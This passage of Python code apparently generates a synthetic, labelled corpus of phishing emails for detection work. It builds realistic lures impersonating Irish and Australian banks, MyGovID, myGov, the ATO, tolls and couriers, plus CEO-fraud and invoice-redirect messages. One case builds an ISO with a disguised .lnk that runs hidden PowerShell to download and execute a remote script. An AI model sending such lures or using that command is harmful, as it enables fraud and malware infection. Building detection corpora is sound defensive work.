            f"X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={h(seed + 'mc', 18)}&id={h(seed + 'cp', 10)}&e={h(seed + 'e', 10)}",
            f"X-MC-User: {h(seed + 'mc', 18)}",
            f"List-Unsubscribe: <https://kerrycraftbrewing.us21.list-manage.com/unsubscribe?u={h(seed + 'mc', 18)}&id={h(seed + 'l', 10)}&e={h(seed + 'e', 10)}&c={h(seed + 'cp', 10)}>,\n <mailto:unsubscribe-mc.us21_{h(seed + 'mc', 18)}.{h(seed + 'cp', 10)}-{h(seed + 'e', 10)}@unsubscribe.mailchimpapp.net>",
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]
    emit("mygovid-deactivation-mailchimp", "phish", "phishing",
         "MyGovID re-verification lure sent through a hijacked Irish brewery's Mailchimp account (genuine ESP authentication), linking to a storage.googleapis.com page harvesting MyGovID credentials.",
         top, hdrs, alt(plain(paras, "Verify my account", url), html, bnd(seed)))


@msg
def ie_anpost_customs():
    seed, when = "ie3", parse_date("2024-12-03 17:55:20 +0000")
    rcpt = "niamh_brennan@outlook.com"
    url = "https://anpost-ie-track.pages.dev/?id=CE947215880IE"
    dom = "anpost-delivery-ie.com"
    paras = ["Dear Customer,",
             "Your parcel <b>CE947215880IE</b> from the United Kingdom has arrived at the An Post Mail Centre in Portlaoise.",
             "Customs charges of <b>&euro;2.99</b> must be paid before it can be delivered. If payment is not received within 48 hours the item will be returned to sender.",
             ]
    html = card("An Post", "#00754a", "An Post", paras, "Pay customs charge", url, ["An Post, GPO, O'Connell Street, Dublin 1, D01 F5P2"])
    auth = Auth("pass", f"info@{dom}", "pass", dom, "s1", "pass", dom, "NONE")
    top = delivery("outlook", rcpt, f"mail.{dom}", "45.88.186.142", when, auth, seed)
    hdrs = [dkim_sig(dom, "s1", seed),
            f"From: {addr('An Post', 'tracking@' + dom)}",
            f"To: {rcpt}",
            "Subject: Your parcel is on hold - customs charge due",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 22)}@{dom}>"]
    emit("anpost-customs-fee", "phish", "phishing",
         "An Post customs-charge lure from a look-alike domain that passes its own checks, linking to a pages.dev card-theft page for a €2.99 fee.",
         top, hdrs, alt(plain(paras, "Pay customs charge", url), html, bnd(seed)))


@msg
def ie_aib_callback():
    seed, when = "ie4", parse_date("2025-02-20 19:12:45 +0000")
    rcpt = "pjkeane@eircom.net"
    sender = "aib.securityteam@mail.com"
    body_txt = ("AIB Fraud Prevention\n\n"
                "A new payee 'T. Kowalczyk' (IBAN IE29 REVO 9903 6045 8812 07) was added to your\n"
                "AIB Internet Banking profile today at 18:54 and a payment of EUR 1,850.00 is\n"
                "scheduled for tomorrow morning.\n\n"
                "If you did not add this payee please call our fraud team IMMEDIATELY on\n"
                "+353 1 556 0348 so we can stop the payment and secure your account.\n"
                "Do not log in to Internet Banking until you have spoken to an agent.\n\n"
                "AIB Customer Protection\nAllied Irish Banks, p.l.c.\n")
    auth = Auth("pass", sender, "pass", "mail.com", "mail-20150716", "pass", "mail.com", "QUARANTINE")
    top = delivery("mail-in.eircom.net", rcpt, "mout.gmx.net", "212.227.15.19", when, auth, seed)
    top += [f"Received: from [10.34.{int(h(seed, 2, '0123456789'))}.{int(h(seed + 'z', 2, '0123456789'))}] ([154.161.{int(h(seed + 'q', 2, '0123456789'))}.{int(h(seed + 'r', 2, '0123456789'))}]) by web-mail.mail.com\n"
            f" (3c-app-mailcom-bs{h(seed + 'bs', 2, '0123456789')}.server.lan [172.19.170.{int(h(seed + 'l', 2, '0123456789'))}]) (via HTTP); {rfc_date(when)}"]
    hdrs = [dkim_sig("mail.com", "mail-20150716", seed, "X-UI-Sender-Class:MIME-Version:Message-ID:From:To:Subject:Content-Type:Date:Sensitivity:Importance", when=when),
            f"X-UI-Sender-Class: {h(seed + 'ui', 8)}-{h(seed + 'ui2', 4)}-{h(seed + 'ui3', 4)}-{h(seed + 'ui4', 4)}-{h(seed + 'ui5', 12)}",
            "MIME-Version: 1.0",
            f"Message-ID: <trinity-{h(seed, 8)}-{h(seed + '2', 4)}-{h(seed + '3', 4)}-{h(seed + '4', 4)}-{h(seed + '5', 12)}-{int(when.timestamp()) * 1000}@3c-app-mailcom-bs{h(seed + 'bs', 2, '0123456789')}>",
            f"From: {addr('AIB Fraud Team', sender)}",
            f"To: {rcpt}",
            "Subject: New payee added - urgent",
            "Content-Type: text/plain; charset=UTF-8",
            f"Date: {rfc_date(when)}",
            "Importance: normal",
            "Sensitivity: Normal",
            f"X-Provags-ID: V03:K1:{b64tok(seed + 'pv', 60)}",
            f"UI-OutboundReport: notjunk:1;M01:P0:{b64tok(seed + 'ob', 30)}="]
    raw_body = Leaf("text/plain", body_txt.encode(), "quoted-printable", '; charset="UTF-8"')
    # mail.com writes its own Content-Type line; drop ours by rendering via Leaf only
    hdrs.remove("Content-Type: text/plain; charset=UTF-8")
    emit("aib-new-payee-callback", "phish", "phishing",
         "AIB 'new payee added' callback scam from a free mail.com account: no link, just an Irish phone number to a fake fraud team that talks the victim into moving money.",
         top, hdrs, raw_body)


@msg
def ie_boi_365online():
    seed, when = "ie5", parse_date("2025-06-24 10:41:09 +0100")
    rcpt = "aoife.dunne@icloud.com"
    url = "https://boi-365-secure.bankofireland-verify.workers.dev/365online/login"
    dom = "bankofireland-365.info"
    paras = ["Dear Customer,",
             "Due to new EU Payment Services regulations (PSD2), we require all 365 online customers to re-register their device for Strong Customer Authentication.",
             "Failure to complete this by 26/06/2025 will result in restricted access to 365 online and the Bank of Ireland app.",
             "Kind regards,<br>Bank of Ireland 365 Team"]
    html = card("Bank of Ireland", "#0000cc", "Bank of Ireland", paras, "Register device", url,
                ["Bank of Ireland is regulated by the Central Bank of Ireland."])
    auth = Auth("pass", f"service@{dom}", "pass", dom, "mail", "pass", dom, "NONE")
    top = delivery("icloud", rcpt, f"smtp.{dom}", "193.143.1.58", when, auth, seed)
    hdrs = [dkim_sig(dom, "mail", seed),
            f"From: {addr('Bank of Ireland', 'service@' + dom)}",
            f"To: {rcpt}",
            "Subject: 365 online - Device re-registration required",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 26)}@{dom}>"]
    emit("boi-365online-workers", "phish", "phishing",
         "Bank of Ireland 365 online 'PSD2 device re-registration' lure from a look-alike .info domain, linking to a workers.dev sign-in clone.",
         top, hdrs, alt(plain(paras, "Register device", url), html, bnd(seed)))


@msg
def ie_eflow_toll():
    seed, when = "ie6", parse_date("2025-10-02 07:30:11 +0100")
    rcpt = "ciaran.byrne88@gmail.com"
    url = "https://bit.ly/3" + h(seed, 6, ALNUM)
    paras = ["eFlow - M50 Barrier-Free Toll",
             "Our records show an unpaid toll for vehicle passage on the M50 on 28/09/2025. The amount due is <b>&euro;3.70</b>.",
             "If this is not paid by 8pm tomorrow, a penalty of &euro;3.00 will apply, rising to &euro;41.00 after 14 days.",
             ]
    html = card("eFlow", "#6c2a8c", "eFlow", paras, "Pay toll now", url, ["eFlow is operated on behalf of Transport Infrastructure Ireland."])
    auth = Auth("fail", "noreply@eflow.ie", "none", "", "", "fail", "eflow.ie", "NONE")
    top = delivery("gmail", rcpt, "vmi" + h(seed, 7, "0123456789") + ".contaboserver.net", "62.171.140.201", when, auth, seed)
    hdrs = [f"From: {addr('eFlow', 'noreply@eflow.ie')}",
            f"To: {rcpt}",
            "Subject: Unpaid M50 toll - avoid penalty",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 32)}@eflow.ie>",
            "X-Mailer: PHPMailer 6.5.0 (https://github.com/PHPMailer/PHPMailer)"]
    emit("eflow-m50-toll-spoof", "phish", "phishing",
         "eFlow M50 unpaid-toll lure that spoofs eflow.ie directly (SPF fail, DMARC fail with a p=none policy) from a Contabo VPS, with a bit.ly link to a card-harvesting page.",
         top, hdrs, alt(plain(paras, "Pay toll now", url), html, bnd(seed, "php")))

@msg
def ie_ceo_giftcards():
    seed, when = "ie7", parse_date("2025-11-20 09:18:27 +0000")
    rcpt = "reception@corribveterinary.ie"
    sender = "dr.eoin.fahy.corribvet@gmail.com"
    lines = ["Hi Sinead,", "", "Are you in the clinic this morning? I need you to get something done for me discreetly, I'm tied up in surgery consults all day and can't take calls.", "",
             "Let me know asap.", "", "Eoin", "", "Sent from my iPhone"]
    html = gmail_html(lines)
    body_txt = "\n".join(lines) + "\n"
    auth = Auth("pass", sender, "pass", "gmail.com", "20230601", "pass", "gmail.com", "NONE")
    top = delivery("m365", rcpt, "mail-ej1-f47.google.com", "209.85.218.47", when, auth, seed, helo="mail-ej1-f47.google.com")
    top += m365_org_headers(seed, when, scl=1, rcpt=rcpt)
    hdrs = [dkim_sig("gmail.com", "20230601", seed, "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to", when=when),
            *gmail_sent(seed, when),
            "MIME-Version: 1.0",
            f"From: {addr('Eoin Fahy', sender)}",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <CAE{b64tok(seed, 44).replace('/', 'k').replace('+', 'P')}@mail.gmail.com>",
            "Subject: Quick task",
            f"To: {rcpt}"]
    emit("ceo-giftcard-opener-gmail", "phish", "phishing",
         "CEO-fraud opener to an Irish vet clinic's reception from a Gmail account using the owner's name, asking for a discreet task (the usual gift-card follow-up); no link or attachment.",
         top, hdrs, alt(body_txt, html, bnd(seed, "gmail")))


@msg
def ie_reply_hijack_sharepoint():
    seed, when = "ie8", parse_date("2025-05-07 15:44:02 +0100")
    rcpt = "orla@murphyjoinery.ie"
    sdom = "kellyassociates-accountants.ie"  # the accountant's real tenant, compromised
    sender = f"sean.kelly@{sdom}"
    url = ("https://dunmoreconstructionltd-my.sharepoint.com/:b:/g/personal/accounts_dunmoreconstruction_ie/"
           "E" + h(seed, 40, ALNUM) + "?e=" + h(seed + "e", 6, ALNUM))
    quoted = ('<div id="appendonsend"></div>\n<hr style="display:inline-block;width:98%" tabindex="-1">\n'
              '<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000">'
              f'<b>From:</b> Orla Murphy &lt;{rcpt}&gt;<br>\n<b>Sent:</b> Tuesday, April 29, 2025 11:02 AM<br>\n'
              f'<b>To:</b> Sean Kelly &lt;{sender}&gt;<br>\n<b>Subject:</b> RE: Year-end accounts 2024 - Murphy Joinery Ltd</font>\n<div>&nbsp;</div></div>\n'
              '<div dir="ltr"><div>Hi Sean,</div><div>Thanks for that, I\'ll get the bank statements for Nov and Dec over to you by Friday.</div>'
              '<div>Orla</div></div>\n')
    paras = ["Hi Orla,",
             f'Please find the draft year-end accounts and the CT1 return for review and sign-off here: <a href="{url}">Murphy Joinery Ltd - Draft Accounts 2024.pdf</a>',
             "You will need to sign in with your email to view as the documents are confidential.",
             "Kind regards,"]
    sig = ["Sean Kelly FCA", "Kelly &amp; Associates Chartered Accountants", "Main Street, Tuam, Co. Galway | 093 24 118"]
    html = outlook_html(paras, sig, quoted)
    body_txt = "\n\n".join(strip_tags(p) for p in paras) + "\n\n" + "\n".join(strip_tags(s) for s in sig) + "\n\n" + strip_tags(quoted) + "\n"
    auth = Auth("pass", sender, "pass", sdom, "selector1", "pass", sdom, "NONE")
    top = delivery("m365", rcpt, "DU2PR03CU002.outbound.protection.outlook.com", "40.107.135.71", when, auth, seed,
                   helo="DU2PR03CU002.outbound.protection.outlook.com")
    top += m365_org_headers(seed, when, scl=1, rcpt=rcpt)
    store = f"DB9PR03MB{h(seed + 's', 4, '0123456789')}.eurprd03.prod.outlook.com"
    top += [f"Received: from {store.upper()}\n ([fe80::{h(seed + 'a', 4)}:{h(seed + 'b', 4)}:{h(seed + 'c', 4)}:{h(seed + 'd', 4)}]) by {store.upper()}\n ([fe80::{h(seed + 'a', 4)}:{h(seed + 'b', 4)}:{h(seed + 'c', 4)}:{h(seed + 'd', 4)}%3]) with mapi id 15.20.8699.019; {rfc_utc(when)}"]
    tid = f"<{store.split('.')[0]}{h(seed + 'o', 16, UPPERNUM)}@{store.upper()}>"
    hdrs = [dkim_sig(sdom, "selector1", seed, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            f"From: {addr('Sean Kelly', sender)}",
            f"To: {addr('Orla Murphy', rcpt)}",
            "Subject: RE: Year-end accounts 2024 - Murphy Joinery Ltd",
            "Thread-Topic: Year-end accounts 2024 - Murphy Joinery Ltd",
            f"Thread-Index: {b64tok(seed + 'ti', 40)}",
            f"Date: {rfc_utc(when)}",
            f"Message-ID:\n <{store.split('.')[0]}{h(seed + 'm', 16, UPPERNUM)}@{store.upper()}>",
            f"References: <{h(seed + 'r', 40, UPPERNUM)}@murphyjoinery.ie>\n {tid}",
            f"In-Reply-To: {tid}",
            "Accept-Language: en-IE, en-US",
            "Content-Language: en-IE",
            "X-MS-Has-Attach:",
            "X-MS-TNEF-Correlator:",
            "x-ms-exchange-senderadcheck: 1"]
    emit("reply-hijack-sharepoint", "phish", "phishing",
         "Thread hijack from the client's real accountant (compromised Microsoft 365 mailbox, all checks pass) replying in a genuine year-end thread with a SharePoint link on another compromised tenant that leads to a Microsoft credential page.",
         top, hdrs, alt(body_txt, html, bnd(seed, "outlook")))


@msg
def ie_remittance_iso_lnk():
    seed, when = "ie9", parse_date("2024-06-18 13:05:44 +0100")
    rcpt = "accounts@harbourviewbnb.ie"
    lnk = files.lnk_shortcut("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                             "-w hidden -ep bypass -c \"iwr -useb https://update-cdnsvc.com/r/a.ps1|iex\"")
    decoy = files.pdf(["REMITTANCE ADVICE", "Payment ref: 2024-06-18-44871", "Amount: EUR 2,340.00"], title="Remittance")
    iso = files.iso_image([("Remittance_Advice_44871.pdf.lnk", lnk), ("decoy.pdf", decoy)], "REMIT44871")
    sdom = "booking-partners-travel.com"
    paras = ["Good afternoon,", "Please see attached remittance advice for the group booking (12 rooms, 14-17 July) paid today.",
             "Kindly confirm the reservation once the funds arrive.", "Best regards,", "Hannah Müller<br>Group Reservations"]
    html = outlook_html(paras)
    body_txt = "\n\n".join(strip_tags(p) for p in paras) + "\n"
    auth = Auth("pass", f"reservations@{sdom}", "pass", sdom, "default", "pass", sdom, "NONE")
    top = delivery("m365", rcpt, f"mail.{sdom}", "194.87.31.204", when, auth, seed)
    top += m365_org_headers(seed, when, scl=1, rcpt=rcpt)
    hdrs = [dkim_sig(sdom, "default", seed),
            f"From: {addr('Hannah Müller', 'reservations@' + sdom)}",
            f"To: {rcpt}",
            "Subject: Remittance advice - group booking July",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 30)}@{sdom}>",
            "X-Mailer: Microsoft Outlook 16.0"]
    body = Multi("mixed", bnd(seed + "m"), [alt(body_txt, html, bnd(seed)),
                                            attachment("application/octet-stream", "Remittance_Advice_44871.iso", iso)])
    emit("remittance-iso-lnk", "phish", "malware",
         "Group-booking remittance lure to an Irish B&B with an ISO disc image holding a .pdf.lnk shortcut that runs hidden PowerShell to download and execute a script.",
         top, hdrs, body)

# --------------------------------------------------------------------------- Australia: attacks

RCPT_REGION.update({"coastalplumbing.com.au": "SY", "bayside-physio.com.au": "ME", "harriselectrical.com.au": "SY",
                    "redgumcabinets.com.au": "ME"})


@msg
def au_mygov_update():
    seed, when = "au1", parse_date("2025-02-25 08:12:40 +1100")
    rcpt = "karen.whitfield@bigpond.com"
    url = "https://my-gov-au-verify.vercel.app/LoginServices/main/login?execution=e1s1"
    dom = "mygov-notices.com"
    paras = ["Dear myGov member,",
             "You have a new message in your myGov Inbox about an update to your linked services (Centrelink, Medicare, ATO).",
             "To continue receiving payments, please sign in and confirm your details by <b>27 February 2025</b>.",
             ]
    html = card("myGov", "#1b2f4e", "myGov", paras, "Sign in to myGov", url,
                ["This is an automated message. Please do not reply.", "myGov is managed by Services Australia."])
    auth = Auth("pass", f"noreply@{dom}", "pass", dom, "mail", "pass", dom, "NONE")
    top = delivery("ipmx3.bigpond.com", rcpt, f"mail.{dom}", "185.193.126.44", when, auth, seed)
    hdrs = [dkim_sig(dom, "mail", seed),
            f"From: {addr('myGov', 'noreply@' + dom)}",
            f"To: {rcpt}",
            "Subject: You have a new message in your myGov Inbox",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@{dom}>"]
    emit("mygov-inbox-vercel", "phish", "phishing",
         "myGov 'new message in your Inbox' lure from a look-alike domain linking to a vercel.app copy of the myGov login that then asks for Centrelink/Medicare details.",
         top, hdrs, alt(plain(paras, "Sign in to myGov", url), html, bnd(seed)))


@msg
def au_ato_refund():
    seed, when = "au2", parse_date("2024-07-09 11:26:15 +1000")
    rcpt = "tony.nguyen76@optusnet.com.au"
    url = "https://ato-gov-au.netlify.app/refund/?claim=ATO-74120995"
    sender = "notice@ato-refund-portal.net"
    paras = ["Australian Taxation Office",
             "Dear taxpayer,",
             "Your 2023-24 income tax return has been processed. You are eligible for a refund of <b>$1,284.60</b>.",
             "To receive your refund, your bank details must be verified through myGov. Please complete the verification within 3 business days.",
             ]
    html = card("ATO", "#1c3a5e", "Australian Government - Australian Taxation Office", paras, "Verify bank details", url)
    auth = Auth("pass", sender, "pass", "ato-refund-portal.net", "x", "pass", "ato-refund-portal.net", "NONE")
    top = delivery("mail.optusnet.com.au", rcpt, "mail.ato-refund-portal.net", "103.253.146.89", when, auth, seed)
    hdrs = [dkim_sig("ato-refund-portal.net", "x", seed),
            f"From: {addr('ATO', sender)}",
            f"To: {rcpt}",
            "Subject: Income tax refund - bank details verification",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@ato-refund-portal.net>"]
    emit("ato-refund-netlify", "phish", "phishing",
         "ATO tax-refund lure at the start of tax time from a look-alike domain, sending the victim to a netlify.app myGov/ATO clone to steal logins and bank details.",
         top, hdrs, alt(plain(paras, "Verify bank details", url), html, bnd(seed)))


@msg
def au_auspost_missed():
    seed, when = "au3", parse_date("2025-12-08 14:02:51 +1100")
    rcpt = "sharon.miles@bigpond.com"
    url = "https://auspost-redelivery.com.au-track.cfd/?c=33LPA9912204"
    paras = ["We missed you!",
             "Tracking: 33LPA9912204",
             "We tried to deliver your parcel today but nobody was home and there was no safe place. Your parcel is held at our facility.",
             "Please update your delivery preferences and pay the re-delivery fee of $2.95 within 24 hours, or it will be returned to sender.",
             ]
    html = card("Australia Post", "#dc1928", "Australia Post", paras, "Arrange delivery", url, ["&copy; Australia Post 2025"])
    auth = Auth("softfail", "root@server1.au-track.cfd", "none", "", "", "none", "au-track.cfd", "NONE")
    top = delivery("ipmx3.bigpond.com", rcpt, "server1.au-track.cfd", "38.180.71.12", when, auth, seed)
    hdrs = [f"From: {addr('Australia Post', 'noreply@au-track.cfd')}",
            f"To: {rcpt}",
            "Subject: Delivery attempt unsuccessful - 33LPA9912204",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{int(h(seed, 10, '0123456789'))}.{h(seed + 'x', 5, '0123456789')}@server1.au-track.cfd>"]
    emit("auspost-missed-delivery", "phish", "phishing",
         "Australia Post 'we missed you' redelivery-fee lure before Christmas, from a cheap .cfd domain (SPF softfail), with a subdomain trick URL starting 'auspost-redelivery.com.au-'.",
         top, hdrs, alt(plain(paras, "Arrange delivery", url), html, bnd(seed)))


@msg
def au_linkt_toll():
    seed, when = "au4", parse_date("2025-04-02 18:37:22 +1000")
    rcpt = "mitch.oconnor93@gmail.com"
    url = "https://linkt.com.au-toll.help/pay?n=NOT-55172"
    sdom = "linkt-notices.help"
    paras = ["Linkt Toll Notice",
             "You have an outstanding toll invoice for travel on the M7 on 29 March 2025.",
             "Amount due: <b>$8.71</b>. Pay now to avoid a $25.00 administration fee and a toll notice being issued to the registered owner.",
             ]
    html = card("Linkt", "#6d2077", "Linkt", paras, "Pay now", url, ["Linkt is a Transurban brand."])
    auth = Auth("pass", f"mail@{sdom}", "pass", sdom, "s", "pass", sdom, "NONE")
    top = delivery("gmail", rcpt, f"mail.{sdom}", "45.138.16.207", when, auth, seed)
    hdrs = [dkim_sig(sdom, "s", seed, when=when),
            f"From: {addr('Linkt', 'tolls@' + sdom)}",
            f"To: {rcpt}",
            "Subject: Unpaid toll - action required",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 20)}@{sdom}>"]
    emit("linkt-unpaid-toll", "phish", "phishing",
         "Linkt unpaid-toll lure with a small amount and fee threat, from a look-alike .help domain, linking to 'linkt.com.au-toll.help' card-harvesting page.",
         top, hdrs, alt(plain(paras, "Pay now", url), html, bnd(seed)))


@msg
def au_commbank_netbank():
    seed, when = "au5", parse_date("2025-09-30 22:15:09 +1000")
    rcpt = "jess.parker_@outlook.com"
    url = "https://netbank-commbank-au.web.app/netbank/Logon/Logon.aspx?ei=mv_logon-NB"
    mfdom = "mail.vinnyspizza-geelong.com.au"
    paras = ["Important security notice",
             "We've detected a login to NetBank from an unrecognised device in Perth, WA. For your security, we've temporarily restricted your account.",
             "If this wasn't you, please log on to NetBank to verify your identity and remove the restriction.",
             "Commonwealth Bank of Australia ABN 48 123 123 124"]
    html = card("CommBank", "#ffcc00", "CommBank", paras, "Log on to NetBank", url)
    html = html.replace("color:#ffffff;text-decoration:none", "color:#000000;text-decoration:none")
    auth = Auth("pass", f"wordpress@{mfdom}", "none", "", "", "none", "vinnyspizza-geelong.com.au", "NONE")
    top = delivery("outlook", rcpt, "ns1.vinnyspizza-geelong.com.au", "27.124.125.40", when, auth, seed)
    hdrs = [f"From: {addr('CommBank', 'wordpress@vinnyspizza-geelong.com.au')}",
            f"To: {rcpt}",
            "Subject: Your NetBank access has been restricted",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 32, ALNUM)}@vinnyspizza-geelong.com.au>",
            "X-Mailer: WPMailSMTP/Mailer/mail 4.1.1"]
    emit("commbank-netbank-webapp", "phish", "phishing",
         "CommBank NetBank restriction lure sent from a compromised Australian small-business WordPress site, linking to a Firebase web.app NetBank login clone.",
         top, hdrs, alt(plain(paras, "Log on to NetBank", url), html, bnd(seed, "php")))


@msg
def au_nab_callback():
    seed, when = "au6", parse_date("2025-01-13 09:48:33 +1100")
    rcpt = "grahamturner51@optusnet.com.au"
    sender = "nab.fraud.alerts@hotmail.com"
    body_txt = ("NAB Fraud Alert\n\n"
                "We have identified a suspicious transaction on your NAB Visa Debit card:\n\n"
                "Merchant: JB HI-FI ONLINE\n"
                "Amount: $2,399.00\n"
                "Date: 13/01/2025\n\n"
                "This transaction is currently on hold. If you do not recognise it, call NAB\n"
                "Fraud Services on 1800 954 218 immediately. If we do not hear from you within\n"
                "2 hours the transaction will be approved.\n\n"
                "Please do not reply to this email.\n"
                "National Australia Bank Limited ABN 12 004 044 937\n")
    html = outlook_html(body_txt.strip().split("\n\n"))
    auth = Auth("pass", sender, "pass", "hotmail.com", "selector1", "pass", "hotmail.com", "NONE")
    top = delivery("mail.optusnet.com.au", rcpt, "SY4PR01CU001.outbound.protection.outlook.com", "40.92.62.19", when, auth, seed)
    hdrs = [dkim_sig("hotmail.com", "selector1", seed, "Date:From:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            f"From: {addr('NAB Fraud Services', sender)}",
            f"To: {addr('', rcpt)}",
            "Subject: NAB: Suspicious transaction on hold",
            f"Date: {rfc_utc(when)}",
            f"Message-ID:\n <ME3P282MB{h(seed, 4, '0123456789')}{h(seed + 'm', 16, UPPERNUM)}@ME3P282MB{h(seed, 4, '0123456789')}.AUSP282.PROD.OUTLOOK.COM>",
            "Content-Language: en-AU",
            "X-MS-Has-Attach:",
            "x-ms-exchange-senderadcheck: 1"]
    emit("nab-fraud-callback", "phish", "phishing",
         "NAB fraud-alert callback scam from a free Hotmail account: a big JB Hi-Fi transaction 'on hold' and a phone number to call; no links.",
         top, hdrs, alt(body_txt, html, bnd(seed, "outlook")))

@msg
def au_agl_credit():
    seed, when = "au7", parse_date("2024-11-14 16:20:05 +1100")
    rcpt = "deb.fraser@optusnet.com.au"
    url = "https://agl-account-refund.pages.dev/myaccount/credit?acc=7740219"
    sdom = "send.bpcargo-logistics.com"  # abused Amazon SES tenant
    paras = ["Hi there,",
             "Good news! After a review of your electricity account, we found you were overcharged during the last billing period. A credit of <b>$186.40</b> is waiting for you.",
             "Sign in to My Account to choose how you'd like to receive your credit.",
             "Thanks,<br>The AGL team"]
    html = card("AGL", "#001cb0", "AGL", paras, "Claim my credit", url, ["AGL Energy Limited ABN 74 115 061 375"])
    mf = f"0108{h(seed, 28)}-{h(seed + 'b', 8)}-{h(seed + 'c', 4)}-{h(seed + 'd', 4)}-{h(seed + 'e', 4)}-{h(seed + 'f', 12)}-000000@{sdom}"
    auth = Auth("pass", mf, "pass", "bpcargo-logistics.com", "zpo3sg", "pass", "bpcargo-logistics.com", "NONE",
                extra_dkim=[("pass", "amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")])
    top = delivery("mail.optusnet.com.au", rcpt, "a8-34.smtp-out.amazonses.com", "54.240.8.34", when, auth, seed)
    hdrs = [dkim_sig("bpcargo-logistics.com", "zpo3sg", seed, "Subject:From:To:Date:Mime-Version:Content-Type:Message-ID", canon="simple/simple", when=when),
            dkim_sig("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", seed + "ses", "Subject:From:To:Date:Mime-Version:Content-Type:Message-ID:Feedback-ID", canon="simple/simple", when=when),
            "Subject: Your AGL account: credit available",
            f"From: {addr('AGL Energy', 'accounts@bpcargo-logistics.com')}",
            f"To: {rcpt}",
            f"Date: {rfc_utc(when)}",
            "MIME-Version: 1.0",
            f"Message-ID: <0108{h(seed + 'mid', 28)}-{h(seed + 'm2', 8)}-{h(seed + 'm3', 4)}-{h(seed + 'm4', 4)}-{h(seed + 'm5', 4)}-{h(seed + 'm6', 12)}-000000@email.amazonses.com>",
            f"Feedback-ID: ::1.ap-southeast-2.{b64tok(seed + 'fb', 43)}=:AmazonSES",
            f"X-SES-Outgoing: {utc(when).strftime('%Y.%m.%d')}-54.240.8.34"]
    emit("agl-credit-ses", "phish", "phishing",
         "AGL 'you were overcharged' credit lure sent via Amazon SES from an unrelated logistics domain (aligned DKIM on that domain), linking to a pages.dev My Account clone.",
         top, hdrs, alt(plain(paras, "Claim my credit", url), html, bnd(seed, "sfmc")))


@msg
def au_telstra_payment_failed():
    seed, when = "au8", parse_date("2025-07-03 07:55:48 +1000")
    rcpt = "p.harrington@bigpond.com"
    url = "https://telstra-billing-update.netlify.app/?acct=3001948827"
    img = files.photo_jpeg(34)
    paras = ['<img src="cid:tlogo" width="120" alt="Telstra">',
             "Hi Paula,",
             "We were unable to process your automatic payment of <b>$94.00</b> for your Telstra bill (account 3001948827).",
             "To avoid a late payment fee and interruption to your services, please update your payment details.",
             ]
    html = card("Telstra", "#0064d2", "Telstra", paras, "Update payment details", url, ["Telstra Corporation Limited ABN 33 051 775 556"])
    sender = "billing@telstra-au-mybill.com"
    auth = Auth("pass", sender, "pass", "telstra-au-mybill.com", "default", "pass", "telstra-au-mybill.com", "NONE")
    top = delivery("ipmx3.bigpond.com", rcpt, "mx.telstra-au-mybill.com", "172.86.94.31", when, auth, seed)
    hdrs = [dkim_sig("telstra-au-mybill.com", "default", seed),
            f"From: {addr('Telstra', sender)}",
            f"To: {addr('Paula Harrington', rcpt)}",
            "Subject: Your Telstra payment was unsuccessful",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@telstra-au-mybill.com>"]
    body = Multi("related", bnd(seed + "r"), [alt(plain(paras[1:], "Update payment details", url), html, bnd(seed)),
                                               attachment("image/jpeg", "logo.jpg", img, inline=True, cid="tlogo")])
    emit("telstra-payment-failed", "phish", "phishing",
         "Telstra failed-payment lure to a Bigpond customer from a look-alike domain, with the victim's first name and a netlify.app card-update page.",
         top, hdrs, body)


@msg
def au_bsb_change_lookalike():
    seed, when = "au9", parse_date("2025-08-21 10:31:17 +1000")
    rcpt = "office@harriselectrical.com.au"
    real, fake = "coastalplumbing.com.au", "coastalplumbimg.com.au"
    sender = f"accounts@{fake}"
    quoted = ('<hr style="display:inline-block;width:98%">\n<div dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt">'
              f'<b>From:</b> Harris Electrical &lt;{rcpt}&gt;<br><b>Sent:</b> Wednesday, 20 August 2025 3:14 PM<br>'
              f'<b>To:</b> Accounts &lt;accounts@{real}&gt;<br><b>Subject:</b> RE: Invoice 10552 - Lot 14 Banksia St</font></div>\n'
              '<div>Hi Jo, thanks, will pay this Friday in the normal run. Cheers, Mel</div>\n')
    paras = ["Hi Mel,",
             "Thanks for that. Just a heads up, we have moved our business banking to Macquarie so please use the new details below for invoice 10552 and all future payments:",
             "Account name: Coastal Plumbing Services Pty Ltd<br>BSB: 182-512<br>Account: 9641 20387",
             "The old CBA account is being closed this week so payments there will bounce. Could you please confirm once updated?",
             "Thanks,"]
    sig = ["Jo Patterson", "Accounts | Coastal Plumbing Services", "0412 880 341"]
    html = outlook_html(paras, sig, quoted)
    body_txt = "\n\n".join(strip_tags(p) for p in paras) + "\n\n" + "\n".join(sig) + "\n\n" + strip_tags(quoted) + "\n"
    auth = Auth("pass", sender, "pass", fake, "selector1", "pass", fake, "NONE")
    top = delivery("m365", rcpt, "SY5PR01CU010.outbound.protection.outlook.com", "40.107.162.52", when, auth, seed,
                   helo="SY5PR01CU010.outbound.protection.outlook.com")
    top += m365_org_headers(seed, when, scl=1, rcpt=rcpt)
    store = f"SY8PR01MB{h(seed + 's', 4, '0123456789')}.ausprd01.prod.outlook.com"
    hdrs = [dkim_sig(fake, "selector1", seed, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
